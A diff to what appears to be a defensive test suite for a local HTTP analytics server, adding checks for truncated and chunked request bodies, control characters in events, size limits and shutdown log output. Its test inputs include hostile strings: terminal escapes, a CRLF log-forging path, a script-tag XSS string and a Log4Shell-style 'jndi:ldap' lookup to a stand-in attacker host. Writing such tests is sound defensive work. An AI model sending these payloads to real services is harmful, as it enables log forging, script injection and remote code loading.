@@ -511,6 +511,44 @@ def paths(server):
                   and server.token.encode() not in answer.data and not answer.header("location"), answer)
 
 
+def events(server):
+    """Bodies of events: half of one is none, a large one is taken."""
+    headers = [server.bearer(), ("Content-Type", "application/x-ndjson")]
+
+    def line(number, text="x"):
+        return json.dumps({"transaction_id": f"{text}{number}", "actor_id": text, "domain": "gaming", "amount": 1,
+                           "currency": "EUR", "timestamp": "2026-11-21T10:00:00.000Z"}).encode() + b"\n"
+
+    def count():
+        answer = server.request("GET", "/analytics/summary", [server.bearer()])
+        return json.loads(answer.body)["events"]["total"]
+
+    before = count()
+    whole = b"".join(line(number) for number in range(20))
+    head = (f"POST /events HTTP/1.1\r\nHost: {server.host}\r\nAuthorization: Bearer {server.token}\r\n"
+            "Content-Type: application/x-ndjson\r\n").encode()
+    for name, data in [("by length", head + b"Content-Length: 100000\r\n\r\n" + whole),
+                       ("in chunks", head + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(whole) + whole + b"\r\n"),
+                       ("without the last chunk's end",
+                        head + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(whole) + whole + b"\r\n0\r\n")]:
+        answer = Answer(server.raw(data, half_close=True))
+        check(f"half a body of events is refused, {name}", answer.status == 400, answer)
+        with server.connect() as connection:
+            connection.sendall(data)
+        check(f"half a body of events is not taken, {name}", count() == before, count())
+    # Control characters in an event are no reason to repeat them on a terminal.
+    body = line(1, "\x1b[31m\x07<script>\u202e") + b'{"transaction_id":"\x1b[31m"}\n\xff\n'
+    answer = server.request("POST", "/events", headers, body)
+    check("hostile events are answered", answer.status in (200, 400) and b"\x1b" not in answer.data, answer)
+    large = b"".join(line(number, "large") for number in range(60_000))
+    answer = server.request("POST", "/events", headers, large, timeout=30)
+    check(f"a body of {len(large) >> 20} MiB is taken", answer.status == 200, answer)
+    answer = server.request("POST", "/events", headers + [("Content-Length", str((16 << 20) + 1))], b"")
+    check("413: more than 16 MiB of events", answer.status == 413, answer)
+    answer = server.request("POST", "/predict", [server.bearer(), JSON, ("Content-Length", str((1 << 20) + 1))], b"")
+    check("413: more than 1 MiB for a prediction", answer.status == 413, answer)
+
+
 def texts(server):
     hostile = "/%1b%5b31mred%0aforged%20line%0d<script>alert(1)</script>%e2%80%ae"
     answer = server.request("GET", hostile, [server.bearer(), ("User-Agent", "${jndi:ldap://evil.example}")])
@@ -810,8 +848,13 @@ def files(server):
     check("SIGTERM: 0", code == 0, code)
     check("the notice is gone", not os.path.exists(kept + "/server.json"))
     check("the token stays", os.path.exists(kept + "/token"))
-    quiet = again.log().splitlines()
-    check("quiet by default", len(quiet) == 1 and quiet[0].startswith("open http://"), quiet)
+    check("quiet by default", says_only_totals(again), again.log())
+
+
+def says_only_totals(server):
+    """Nothing on standard error but how to get in, and what was done."""
+    lines = server.log().splitlines()
+    return len(lines) == 2 and lines[0].startswith("open http://") and " events = " in lines[1]
 
 
 def few_descriptors():
@@ -854,7 +897,7 @@ def stopping():
         check("the stream has all headers", not missing_headers(Answer(first)), first)
     code, took = server.stop()
     check("SIGTERM with open connections: 0 within 5 s", code == 0 and took < 5, f"{code} after {took:.1f} s")
-    check("SIGTERM: nothing on the log", len(server.log().splitlines()) == 1, server.log())
+    check("SIGTERM: the totals are the only word", says_only_totals(server), server.log())
     for connection in held + [stream]:
         connection.close()
 
@@ -868,7 +911,7 @@ def main():
         jobs = [pool.submit(job, server) for job in (slow_head, slow_body, slow_reader, idle)]
         jobs += [pool.submit(few_descriptors), pool.submit(stopping)]
         jobs.append(pool.submit(lambda: (crowds(crowded), rude(crowded))))
-        for job in (access, sessions, hosts, framing, paths, bursts, texts, files):
+        for job in (access, sessions, hosts, framing, paths, bursts, events, texts, files):
             job(server)
         for job in jobs:
             job.result()
